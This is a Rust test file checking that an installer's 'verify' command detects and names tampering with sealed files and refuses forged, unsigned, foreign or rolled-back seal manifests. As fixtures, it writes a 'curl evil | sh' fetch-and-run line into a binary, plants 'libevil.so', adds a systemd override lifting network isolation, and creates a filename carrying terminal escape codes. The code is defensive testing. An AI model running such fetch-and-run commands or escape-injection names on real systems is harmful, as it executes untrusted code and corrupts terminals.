//! `seal` and `verify`: each kind of tampering named, a tampered, unsigned, foreign, removed
//! or older seal refused.

use std::os::unix::fs::PermissionsExt;

use crate::harness::{Node, is_root};

#[test]
fn sealed_node_verifies_clean_and_the_seal_is_in_the_audit_log() {
    let node = Node::installed_and_sealed("1.0.0");
    let out = node.cmd("verify", &[]).ok();
    assert!(out.contains(" 0 differences"), "{out}");
    // The test runs target/debug/airlock-install, not the installed stand-in.
    assert!(
        out.contains("this program is not one of the sealed files"),
        "{out}"
    );
    assert_eq!(
        node.audit_actions(),
        ["home.init", "install.install", "install.seal"]
    );
    let rec = node.last_record("install.seal");
    assert_eq!(rec.details["floor"], "1.0.0");
    let seal: serde_json::Value = serde_json::from_slice(
        &std::fs::read(node.path("var/lib/airlock-install/seal.json")).unwrap(),
    )
    .unwrap();
    let paths: Vec<&str> = seal["manifest"]["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    for want in [
        "etc/airlock/airlock.toml",
        "etc/systemd/system/airlock-serve@.service",
        "opt/airlock/current",
        "opt/airlock/releases/1.0.0/airlock",
    ] {
        assert!(paths.contains(&want), "{want} not sealed: {paths:?}");
    }
    let json = node.cmd("verify", &["--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v["clean"], true);
    assert_eq!(v["report"]["digest"], rec.subjects[0].as_str());
}

#[test]
fn verify_names_every_kind_of_tampering_and_exits_4() {
    let node = Node::installed_and_sealed("1.0.0");
    let bin = node.path("opt/airlock/releases/1.0.0/airlock");
    // content
    std::fs::write(&bin, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    // mode
    let config = node.path("etc/airlock/airlock.toml");
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o666)).unwrap();
    // type: a file replaced by a link to one with the same bytes
    let worker = node.path("opt/airlock/releases/1.0.0/airlock-worker");
    std::fs::rename(&worker, node.path("opt/airlock/worker-elsewhere")).unwrap();
    std::os::unix::fs::symlink("../../worker-elsewhere", &worker).unwrap();
    // added under a sealed folder, and a drop-in that would change a unit
    std::fs::write(node.path("opt/airlock/releases/1.0.0/libevil.so"), "x").unwrap();
    std::fs::create_dir(node.path("etc/systemd/system/airlock-serve@.service.d")).unwrap();
    std::fs::write(
        node.path("etc/systemd/system/airlock-serve@.service.d/override.conf"),
        "[Service]\nPrivateNetwork=no\n",
    )
    .unwrap();
    // removed
    std::fs::remove_file(node.path("etc/systemd/system/airlock-verify.timer")).unwrap();
    // an added file whose name would drive the terminal
    std::fs::write(node.path("etc/airlock/\x1b[2Jevil"), "x").unwrap();

    let run = node.cmd("verify", &[]);
    assert_eq!(run.code(), 4, "{}{}", run.stdout(), run.stderr());
    let out = run.stdout();
    for want in [
        "modified  opt/airlock/releases/1.0.0/airlock  content (sha256 ",
        "modified  etc/airlock/airlock.toml  mode 0644 -> 0666",
        "modified  opt/airlock/releases/1.0.0/airlock-worker  type file -> link",
        "added     opt/airlock/releases/1.0.0/libevil.so  (file)",
        "added     opt/airlock/worker-elsewhere  (file)",
        "added     etc/systemd/system/airlock-serve@.service.d  (folder)",
        "added     etc/systemd/system/airlock-serve@.service.d/override.conf  (file)",
        "removed   etc/systemd/system/airlock-verify.timer  (file)",
        "added     etc/airlock/\\u{1b}[2Jevil  (file)",
        " 9 differences",
    ] {
        assert!(out.contains(want), "missing {want:?} in:\n{out}");
    }
    assert!(!out.contains('\x1b'), "a name reached the terminal raw");

    let json = node.cmd("verify", &["--json"]);
    assert_eq!(json.code(), 4);
    let v: serde_json::Value = serde_json::from_str(&json.stdout()).unwrap();
    assert_eq!(v["clean"], false);
    let diffs = v["report"]["differences"].as_array().unwrap();
    let config_diff = diffs
        .iter()
        .find(|d| d["path"] == "etc/airlock/airlock.toml")
        .unwrap();
    assert_eq!(config_diff["change"], "modified");
    assert_eq!(config_diff["attributes"], serde_json::json!(["mode"]));
}

#[test]
fn verify_names_a_change_of_owner() {
    if !is_root() {
        println!("skipped: changing a file's owner needs root (CI runs as root)");
        return;
    }
    let node = Node::installed_and_sealed("1.0.0");
    std::os::unix::fs::lchown(node.path("etc/airlock/airlock.toml"), Some(65534), None).unwrap();
    let out = node.cmd("verify", &[]);
    assert_eq!(out.code(), 4);
    assert!(
        out.stdout()
            .contains("modified  etc/airlock/airlock.toml  owner 0:0 -> 65534:0"),
        "{}",
        out.stdout()
    );
}

/// A name holding the 8-bit CSI (U+009B), which serde_json writes raw, reaches `--json`
/// output as an escape; and `verify | head -1` (a reader that stops early) still exits 4.
#[test]
fn verify_json_is_printable_ascii_and_a_closed_pipe_keeps_the_exit_code() {
    let node = Node::installed_and_sealed("1.0.0");
    std::fs::write(node.path("etc/airlock/x\u{9b}31m"), "x").unwrap();
    let json = node.cmd("verify", &["--json"]);
    assert_eq!(json.code(), 4);
    assert!(json.stdout().is_ascii(), "{:?}", json.stdout());
    let v: serde_json::Value = serde_json::from_str(&json.stdout()).unwrap();
    assert_eq!(
        v["report"]["differences"][0]["path"],
        "etc/airlock/x\u{9b}31m"
    );

    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_airlock-install"))
        .args(["verify", "--root", crate::harness::s(&node.root)])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Closed before the child has verified anything, so its first line meets no reader.
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn verify_refuses_a_manifest_altered_to_match_tampered_files() {
    let node = Node::installed_and_sealed("1.0.0");
    let seal_path = node.path("var/lib/airlock-install/seal.json");
    std::fs::set_permissions(
        node.path("etc/airlock/airlock.toml"),
        std::fs::Permissions::from_mode(0o666),
    )
    .unwrap();
    // The attacker edits the manifest so it agrees with the changed mode (420 = 0644,
    // 438 = 0666).
    let text = std::fs::read_to_string(&seal_path).unwrap();
    let altered = text.replacen("\"mode\":420", "\"mode\":438", 1);
    assert_ne!(altered, text);
    std::fs::write(&seal_path, altered).unwrap();
    let err = node.cmd("verify", &[]).fails(4);
    assert!(err.contains("signature does not verify"), "{err}");
}

#[test]
fn verify_refuses_an_unsigned_manifest() {
    let node = Node::installed_and_sealed("1.0.0");
    let seal_path = node.path("var/lib/airlock-install/seal.json");
    let mut v: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&seal_path).unwrap()).unwrap();
    v.as_object_mut().unwrap().remove("signature");
    std::fs::write(&seal_path, serde_json::to_vec(&v).unwrap()).unwrap();
    let err = node.cmd("verify", &[]).fails(4);
    assert!(err.contains("unsigned or altered"), "{err}");
    v["signature"] = "".into();
    std::fs::write(&seal_path, serde_json::to_vec(&v).unwrap()).unwrap();
    let err = node.cmd("verify", &[]).fails(4);
    assert!(err.contains("signature does not verify"), "{err}");
}

#[test]
fn verify_refuses_an_older_seal_put_back() {
    let node = Node::installed_and_sealed("1.0.0");
    let seal_path = node.path("var/lib/airlock-install/seal.json");
    let old = std::fs::read(&seal_path).unwrap();
    // A legitimate change, sealed again...
    std::fs::set_permissions(
        node.path("etc/airlock/airlock.toml"),
        std::fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    node.cmd("seal", &["--reason", "config readable by the group only"])
        .ok();
    // ...then the old, genuinely signed seal and the old state put back.
    std::fs::set_permissions(
        node.path("etc/airlock/airlock.toml"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::write(&seal_path, old).unwrap();
    let err = node.cmd("verify", &[]).fails(4);
    assert!(
        err.contains("not the newest seal the audit log records"),
        "{err}"
    );
}

#[test]
fn verify_refuses_a_removed_seal_and_one_from_another_site() {
    let node = Node::installed_and_sealed("1.0.0");
    let other = Node::installed_and_sealed("1.0.0");
    let seal_path = node.path("var/lib/airlock-install/seal.json");
    std::fs::remove_file(&seal_path).unwrap();
    let err = node.cmd("verify", &[]).fails(4);
    assert!(err.contains("the seal was removed"), "{err}");
    std::fs::copy(other.path("var/lib/airlock-install/seal.json"), &seal_path).unwrap();
    let err = node.cmd("verify", &[]).fails(4);
    assert!(err.contains("not by this site's key"), "{err}");
}

#[test]
fn verify_of_a_node_never_sealed_says_so() {
    let node = Node::new("1.0.0");
    node.install(&[]).ok();
    let err = node.cmd("verify", &[]).fails(6);
    assert!(err.contains("never sealed"), "{err}");
}

/// As root, with the home owned by the service user: seal and verify open the home as its
/// owner, and leave every file of the home with that owner.
#[test]
fn seal_and_verify_as_root_open_the_home_as_the_service_user() {
    use std::os::unix::fs::MetadataExt;
    if !is_root() {
        println!("skipped: needs root (CI runs as root)");
        return;
    }
    let node = Node::new("1.0.0");
    std::fs::create_dir_all(node.path("etc")).unwrap();
    std::fs::write(
        node.path("etc/passwd"),
        "root:x:0:0:root:/root:/bin/sh\nairlock:x:64123:64123::/var/lib/airlock:/usr/sbin/nologin\n",
    )
    .unwrap();
    node.install(&[]).ok();
    node.cmd("seal", &[]).ok();
    node.cmd("verify", &[]).ok();
    let home = node.path("var/lib/airlock");
    for e in std::fs::read_dir(&home).unwrap() {
        let p = e.unwrap().path();
        assert_eq!(
            std::fs::symlink_metadata(&p).unwrap().uid(),
            64123,
            "{}",
            p.display()
        );
    }
    assert_eq!(
        std::fs::metadata(node.path("var/lib/airlock-install/seal.json"))
            .unwrap()
            .uid(),
        0
    );
}
